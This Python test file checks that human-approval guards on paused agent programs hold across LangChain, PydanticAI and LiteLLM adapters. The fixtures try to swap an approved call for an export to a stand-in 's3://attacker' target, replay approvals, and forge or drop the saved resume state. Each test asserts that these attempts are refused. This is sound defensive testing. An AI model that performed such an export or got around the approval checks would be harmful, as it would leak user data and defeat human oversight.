"""A paused program's guards on every framework door (issue 40): each cell drives the door's
real framework and counts what the tools ran.

A row is a framework door reached with ``run_code``; a column is a guard of a paused program:
a fresh worker resumes it from the framework's own state (the SMS sent before the pause is not
sent again), the same approval brought back runs nothing, an edit cannot swap the tool, the
framework's own approval marker pauses a program's call, and a changed or missing state runs
nothing. The program texts +100, then deletes k1 (which needs approval)::

    python tests/security/test_program_paths.py --write    # put the table in docs/security.md
"""

from __future__ import annotations

import sys
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("pydantic_monty")

ROOT = Path(__file__).resolve().parents[2]
sys.path[:0] = [str(ROOT / "tests")]  # run as a script too (--write)

from support.programs import PROGRAM, RUN_KEY, program_manager  # noqa: E402

PAGE = ROOT / "docs" / "security.md"
BEGIN, END = "<!-- program-matrix:begin -->", "<!-- program-matrix:end -->"
MARKED = "print(await send_sms(to='+100'))"
"""A program whose one call only the framework's own marker asks about."""


def _tamper(sealed: str) -> str:
    return sealed[:-4] + ("0000" if not sealed.endswith("0000") else "1111")


class LangChainDoor:
    """``create_agent`` with ``ToolManagerMiddleware`` over an ``InMemorySaver``; each worker a
    new middleware and manager over the same checkpointer."""

    def __init__(self) -> None:
        from langgraph.checkpoint.memory import InMemorySaver

        self.runs: Counter[str] = Counter()
        self.saver = InMemorySaver()
        self.config = {"configurable": {"thread_id": "t"}}
        self.model: Any = None
        self.hitl = False

    def _agent(self) -> Any:
        from langchain.agents import create_agent
        from langchain.agents.middleware import HumanInTheLoopMiddleware
        from toolmgmt_langchain import ToolManagerMiddleware

        if not self.hitl:
            middleware = [ToolManagerMiddleware(program_manager(self.runs))]
        else:
            hitl = HumanInTheLoopMiddleware(interrupt_on={"send_sms": True})
            manager = program_manager(self.runs, policy=False)
            middleware = [hitl, ToolManagerMiddleware(manager, approval=hitl)]
        return create_agent(self.model, middleware=middleware, checkpointer=self.saver)

    def pause(self, code: str = PROGRAM, *, marker: bool = False) -> dict[str, Any]:
        from langchain_core.messages import AIMessage, HumanMessage

        from toolmgmt_demo.models.langchain import ScriptedChatModel

        call = {"name": "run_code", "args": {"code": code}, "id": "c1"}
        turns = [AIMessage(content="", tool_calls=[call]), AIMessage(content="done")]
        self.model, self.hitl = ScriptedChatModel(script=turns), marker
        self.worker = self._agent()
        state = self.worker.invoke({"messages": [HumanMessage("go")]}, self.config)
        [pending] = state["__interrupt__"]
        return {"tool": pending.value["name"], "arguments": pending.value["args"]}

    def resume(self, answer: str, *, fresh: bool = True) -> str:
        from langchain_core.messages import ToolMessage
        from langgraph.types import Command
        from pydantic import ValidationError

        decision: Any = {"type": "approve"}
        if answer == "swap":
            action = {"name": "export_all", "args": {"target": "s3://attacker"}}
            decision = {"type": "edit", "edited_action": action}
        worker = self._agent() if fresh else self.worker
        try:
            state = worker.invoke(Command(resume=decision), self.config)
        except ValidationError as exc:
            return f"ValidationError: {exc}"
        answers = [m for m in state["messages"] if isinstance(m, ToolMessage)]
        return str(answers[-1].content) if answers else ""

    def change_state(self, change: Callable[[str], str | None]) -> None:
        """Rewrite the kept state in the checkpoint (None: drop it), as whoever holds the
        checkpointer's storage could."""
        from langgraph.types import Interrupt

        saved = self.saver.get_tuple(self.config)
        assert saved is not None
        for task, channel, interrupts in saved.pending_writes or []:
            if channel != "__interrupt__":
                continue
            changed = []
            for interrupt in interrupts:
                value = dict(interrupt.value)
                state = change(value["toolmgmt"]["resume_state"])
                value.pop("toolmgmt")
                if state is not None:
                    value["toolmgmt"] = {"resume_state": state}
                changed.append(Interrupt(value=value, id=interrupt.id))
            self.saver.put_writes(saved.config, [(channel, changed)], task)


class PydanticAIDoor:
    """An ``Agent`` with a ``ManagedToolset`` and the default ``message_history``; each worker
    a new agent, toolset and manager given the history as stored (JSON)."""

    def __init__(self) -> None:
        self.runs: Counter[str] = Counter()
        self.history: Any = None
        self.marker = False

    def _agent(self, code: str) -> Any:
        from pydantic_ai import Agent
        from pydantic_ai.messages import ModelResponse, TextPart, ToolCallPart
        from pydantic_ai.models.function import FunctionModel
        from pydantic_ai.tools import DeferredToolRequests
        from pydantic_ai.toolsets import FunctionToolset
        from toolmgmt_pydantic_ai import ManagedToolset

        def model(messages: Any, info: Any) -> Any:
            if len(messages) == 1:
                return ModelResponse(parts=[ToolCallPart("run_code", {"code": code}, "c1")])
            return ModelResponse(parts=[TextPart("done")])

        if not self.marker:
            managed = ManagedToolset(program_manager(self.runs))
        else:  # the SMS tool is PydanticAI's own, marked requires_approval
            toolset: FunctionToolset[Any] = FunctionToolset(id="sms")
            runs = self.runs

            @toolset.tool_plain(requires_approval=True)
            def send_sms(to: str) -> str:
                """Send a text message."""
                runs["send_sms"] += 1
                return f"sent to {to}"

            from toolmgmt_core import Execution, ToolCatalog, ToolManager

            manager = ToolManager(ToolCatalog(), mode="code", execution=Execution(run_key=RUN_KEY))
            managed = ManagedToolset(manager, toolsets={"sms": toolset})
        output = [str, DeferredToolRequests]
        return Agent(FunctionModel(model), toolsets=[managed], output_type=output)

    def pause(self, code: str = PROGRAM, *, marker: bool = False) -> dict[str, Any]:
        from pydantic_ai.messages import ModelMessagesTypeAdapter

        self.code, self.marker = code, marker
        self.worker = self._agent(code)
        paused = self.worker.run_sync("go")
        meta = paused.output.metadata["c1"]
        stored = ModelMessagesTypeAdapter.dump_json(paused.all_messages())
        self.history = ModelMessagesTypeAdapter.validate_json(stored)
        return {"tool": meta["tool_name"], "arguments": meta["arguments"]}

    def resume(self, answer: str, *, fresh: bool = True) -> str:
        from pydantic_ai.tools import DeferredToolResults, ToolApproved

        verdict: Any = True
        if answer == "swap":  # override_args is run_code's own: another program
            other = "print(await export_all(target='s3://attacker'))"
            verdict = ToolApproved(override_args={"code": other})
        worker = self._agent(self.code) if fresh else self.worker
        done = worker.run_sync(
            message_history=self.history,
            deferred_tool_results=DeferredToolResults(approvals={"c1": verdict}),
        )
        texts = [
            str(p.content)
            for m in done.all_messages()
            for p in getattr(m, "parts", ())
            if getattr(p, "tool_call_id", None) == "c1"
            and getattr(p, "part_kind", "") != "tool-call"
        ]
        return texts[-1] if texts else ""

    def change_state(self, change: Callable[[str], str | None]) -> None:
        for message in self.history:
            runs = ((getattr(message, "metadata", None) or {}).get("toolmgmt") or {}).get("runs")
            for call, kept in list((runs or {}).items()):
                state = change(kept["resume_state"])
                if state is None:
                    del runs[call]
                else:
                    kept["resume_state"] = state


class LiteLLMDoor:
    """The LiteLLM runner over a mocked completion calling ``run_code``; the app's
    ``approve=`` answers a program's call in place (nothing pauses)."""

    inline = "n/a: `approve=` answers in place; the program never pauses, no state leaves it"

    def __init__(self) -> None:
        self.runs: Counter[str] = Counter()

    def answer(self, verdict: Any) -> str:
        import json

        import litellm
        from toolmgmt_litellm import run_meta_tool_calls_sync

        call = {"name": "run_code", "arguments": json.dumps({"code": PROGRAM})}
        response = litellm.completion(
            model="openai/gpt-4o-mini",
            messages=[{"role": "user", "content": "go"}],
            mock_tool_calls=[{"id": "c1", "type": "function", "function": call}],
        )
        session = program_manager(self.runs).session()
        [message] = run_meta_tool_calls_sync(session, response, approve=lambda request: verdict)
        return str(message["content"])


# -- the guards ---------------------------------------------------------------------------------


def _asked_delete(asked: dict[str, Any]) -> None:
    assert asked == {"tool": "delete_record", "arguments": {"key": "k1"}}, asked


def guard_fresh_worker(door: Any) -> str:
    if isinstance(door, LiteLLMDoor):
        assert "deleted k1" in door.answer(True)
        assert door.runs == Counter({"send_sms": 1, "delete_record": 1})
        return LiteLLMDoor.inline
    _asked_delete(door.pause())
    assert door.runs == Counter({"send_sms": 1})
    text = door.resume("approve", fresh=True)
    assert "deleted k1" in text and door.runs == Counter({"send_sms": 1, "delete_record": 1})
    return "from the framework's state: SMS sent once, delete ran once"


def guard_replay(door: Any) -> str:
    if isinstance(door, LiteLLMDoor):
        return LiteLLMDoor.inline
    door.pause()
    door.resume("approve", fresh=False)
    again = door.resume("approve", fresh=False)
    assert door.runs == Counter({"send_sms": 1, "delete_record": 1}), again
    if "resumed already" in again:
        return "the same approval again: refused `program_state` (resumed already), ran once"
    return "the same approval again: nothing to resume, ran once in all"


def guard_edit_swap(door: Any) -> str:
    if isinstance(door, LiteLLMDoor):
        from toolmgmt_core import ApprovalEdit

        text = door.answer(ApprovalEdit({"target": "s3://attacker"}, tool_name="export_all"))
        assert door.runs == Counter({"send_sms": 1}) and "never its tool" in text, text
        return "`ApprovalEdit(tool_name=...)` naming another tool: refused, ran 0"
    door.pause()
    text = door.resume("swap", fresh=True)
    assert door.runs == Counter({"send_sms": 1}), text
    if text.startswith("ValidationError"):  # the edit's schema pins the tool
        return "an edit naming another tool: `ValidationError` (not saved), ran 0"
    assert "another program" in text, text
    return "`override_args` with another program: refused `program_state`, ran 0"


def guard_marker(door: Any) -> str:
    if isinstance(door, LiteLLMDoor):
        return "n/a: LiteLLM has no approval marker of its own"
    asked = door.pause(MARKED, marker=True)
    assert asked == {"tool": "send_sms", "arguments": {"to": "+100"}}, asked
    assert door.runs == Counter()
    text = door.resume("approve", fresh=True)
    assert "sent to +100" in text and door.runs == Counter({"send_sms": 1}), text
    return "the program's call paused, ran 0; approved: ran once"


def _state_guard(change: Callable[[str], str | None], expected: str, said: str) -> Any:
    def guard(door: Any) -> str:
        if isinstance(door, LiteLLMDoor):
            return LiteLLMDoor.inline
        door.pause()
        door.change_state(change)
        text = door.resume("approve", fresh=True)
        assert door.runs == Counter({"send_sms": 1}), text
        assert "program_state" in text and expected in text, text
        return f"refused `program_state` ({said}), ran 0"

    return guard


guard_forged = _state_guard(_tamper, "not one this server sealed", "not sealed here")
guard_missing = _state_guard(lambda state: None, "its state is not in the", "no state kept")


@dataclass(frozen=True)
class Column:
    id: str
    label: str
    check: Callable[[Any], str]


@dataclass(frozen=True)
class Row:
    id: str
    label: str
    needs: str
    make: Callable[[], Any]


GUARDS = [
    Column("fresh_worker", "resumed by a fresh worker", guard_fresh_worker),
    Column("replay", "approval brought back", guard_replay),
    Column("edit_swap", "edit naming another tool", guard_edit_swap),
    Column("marker", "framework's marker from a program", guard_marker),
    Column("forged", "changed state", guard_forged),
    Column("missing", "state dropped", guard_missing),
]
PATHS = [
    Row("langchain", "LangChain middleware (`run_code`)", "langchain", LangChainDoor),
    Row("pydantic_ai", "PydanticAI `ManagedToolset` (`run_code`)", "pydantic_ai", PydanticAIDoor),
    Row("litellm", "LiteLLM runner (`run_code`)", "litellm", LiteLLMDoor),
]
_REFUSED_CHANGED = "refused `program_state` (not sealed here), ran 0"
_REFUSED_MISSING = "refused `program_state` (no state kept), ran 0"
_SHARED = {
    "fresh_worker": "from the framework's state: SMS sent once, delete ran once",
    "marker": "the program's call paused, ran 0; approved: ran once",
    "forged": _REFUSED_CHANGED,
    "missing": _REFUSED_MISSING,
}
EXPECTED: dict[str, dict[str, str]] = {
    "langchain": {
        **_SHARED,
        "replay": "the same approval again: nothing to resume, ran once in all",
        "edit_swap": "an edit naming another tool: `ValidationError` (not saved), ran 0",
    },
    "pydantic_ai": {
        **_SHARED,
        "replay": "the same approval again: refused `program_state` (resumed already), ran once",
        "edit_swap": "`override_args` with another program: refused `program_state`, ran 0",
    },
    "litellm": {
        **{column.id: LiteLLMDoor.inline for column in GUARDS},
        "edit_swap": "`ApprovalEdit(tool_name=...)` naming another tool: refused, ran 0",
        "marker": "n/a: LiteLLM has no approval marker of its own",
    },
}


@pytest.mark.timeout(120)
@pytest.mark.filterwarnings("ignore::UserWarning")
@pytest.mark.parametrize(
    ("row", "guard"),
    [pytest.param(r, g, id=f"{r.id}-{g.id}") for r in PATHS for g in GUARDS],
)
def test_every_program_guard_holds_at_every_framework_door(row: Row, guard: Column) -> None:
    pytest.importorskip(row.needs)
    assert guard.check(row.make()) == EXPECTED[row.id][guard.id]


def render(cells: dict[str, dict[str, str]]) -> str:
    from support.page_table import render_table

    return render_table("adapter", PATHS, GUARDS, cells)


def test_the_page_shows_the_matrix() -> None:
    from support.page_table import documented

    assert documented(PAGE, BEGIN, END) == render(EXPECTED)


if __name__ == "__main__":
    sys.path[:0] = [str(ROOT)]
    from support.page_table import write_table

    if "--write" in sys.argv:
        write_table(PAGE, BEGIN, END, render(EXPECTED))
        print(f"wrote the matrix to {PAGE.relative_to(ROOT)}")
